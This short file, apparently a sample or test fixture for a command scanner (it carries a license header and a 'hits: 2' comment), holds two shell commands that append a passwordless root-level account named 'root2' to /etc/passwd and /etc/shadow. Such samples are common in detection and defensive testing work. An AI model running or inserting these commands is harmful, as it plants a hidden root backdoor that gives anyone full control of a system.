# SPDX-License-Identifier: Apache-2.0
# hits: 2
echo 'root2::0:0::/root:/bin/sh' >> /etc/passwd
perl -e 'open F, ">>", "/etc/shadow"; print F "root2::20000:0:99999:7:::\n"'
